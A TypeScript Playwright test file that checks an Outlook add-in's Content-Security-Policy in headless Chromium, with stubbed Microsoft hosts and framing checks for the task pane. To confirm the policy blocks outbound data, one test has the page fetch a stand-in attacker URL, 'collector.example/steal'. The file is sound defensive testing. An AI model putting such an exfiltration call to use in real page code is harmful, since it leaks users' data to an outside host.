import type { Browser, BrowserContext, Page } from 'playwright-core';
import { createTestContext, type TestContext } from '../helpers/context';
import { chromiumAvailable, launchChromium } from './browser';

/**
 * Issue 14, finding 8, in a browser: the production build's pages run under their
 * Content-Security-Policy without a single violation — Office.js from Microsoft's CDN and
 * MSAL's login endpoint included (both answered here by stand-ins: the network is closed) —
 * and the task pane can be framed by Outlook on the web but not by another site.
 */

jest.setTimeout(120_000);
const canRun = chromiumAvailable();
const describeInChromium = canRun ? describe : describe.skip;

const OFFICE_JS_STUB = `window.Office = { onReady: () => new Promise(() => {}), context: {} };`;

/** Every CSP violation the page reports, and the browser's "Refused to …" console errors. */
function collectViolations(page: Page): string[] {
  const violations: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) violations.push(message.text());
  });
  return violations;
}

describeInChromium('the Content-Security-Policy in headless Chromium', () => {
  let ctx: TestContext;
  let baseUrl: string;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let violations: string[];

  beforeAll(async () => {
    ctx = await createTestContext('pglite');
    baseUrl = await ctx.app.listen({ host: '127.0.0.1', port: 0 });
    // The test stands in for Outlook on the web (a public origin) framing this server on the
    // loopback address, which Chromium blocks on its own (ERR_BLOCKED_BY_LOCAL_NETWORK_ACCESS_CHECKS)
    // before the CSP is consulted; a real deployment is public too.
    browser = await launchChromium([
      '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessForIframes,PrivateNetworkAccessForNavigations',
    ]);
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await ctx?.app.close();
    await ctx?.database.drop();
  });

  beforeEach(async () => {
    context = await browser.newContext();
    page = await context.newPage();
    page.setDefaultTimeout(15_000);
    violations = collectViolations(page);
    // Microsoft's hosts, answered by stand-ins.
    await context.route('https://appsforoffice.microsoft.com/**', (route) =>
      route.fulfill({ contentType: 'text/javascript', body: OFFICE_JS_STUB }),
    );
    await context.route('https://login.microsoftonline.com/**', (route) =>
      route.fulfill({
        contentType: 'application/json',
        headers: { 'access-control-allow-origin': '*' },
        body: JSON.stringify({ issuer: 'https://login.microsoftonline.com/{tenantid}/v2.0' }),
      }),
    );
  });
  afterEach(async () => {
    await context.close();
  });

  test('the task pane loads Office.js from the CDN and may reach MSAL’s login endpoint, and nothing else', async () => {
    await page.goto(`${baseUrl}/taskpane.html`);
    expect(await page.evaluate(() => typeof (window as unknown as { Office?: unknown }).Office)).toBe(
      'object',
    );
    const login = await page.evaluate(async () => {
      const response = await fetch(
        'https://login.microsoftonline.com/common/v2.0/.well-known/openid-configuration',
      );
      return response.status;
    });
    expect(login).toBe(200);
    expect(violations).toEqual([]);
    // The policy is in force: another origin is refused.
    const elsewhere = await page.evaluate(() =>
      fetch('https://collector.example/steal').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(elsewhere).toBe('refused');
    expect(violations.join('\n')).toMatch(/collector\.example/);
  });

  test('Outlook on the web may frame the task pane; another site may not', async () => {
    const framer = (origin: string) => async () => {
      await context.route(`${origin}/**`, (route) =>
        route.fulfill({
          contentType: 'text/html',
          body: `<!doctype html><iframe id="pane" src="${baseUrl}/taskpane.html"></iframe>`,
        }),
      );
      await page.goto(`${origin}/mail/`);
      await page.waitForTimeout(1000);
      const pane = page.frames().find((frame) => frame.url() === `${baseUrl}/taskpane.html`);
      // A refused frame is left with an error page (or nothing) instead of the task pane's skeleton.
      return (await pane?.locator('[aria-label="Starting Sales Tools"], #root').count()) ?? 0;
    };
    expect(await framer('https://outlook.office.com')()).toBeGreaterThan(0);
    expect(violations).toEqual([]);
    expect(await framer('https://evil.example')()).toBe(0);
    expect(violations.join('\n')).toMatch(/frame-ancestors/);
  });

  test('/docs renders under its policy', async () => {
    await page.goto(`${baseUrl}/docs`);
    await page.locator('.swagger-ui .info').waitFor();
    expect(violations).toEqual([]);
  });

  test('/preview and its task pane run without a violation', async () => {
    await page.goto(`${baseUrl}/preview?to=someone@northwind.example`);
    await page
      .frameLocator('iframe[title="Sales Tools"]')
      .getByText('someone@northwind.example')
      .first()
      .waitFor();
    expect(violations).toEqual([]);
  });
});
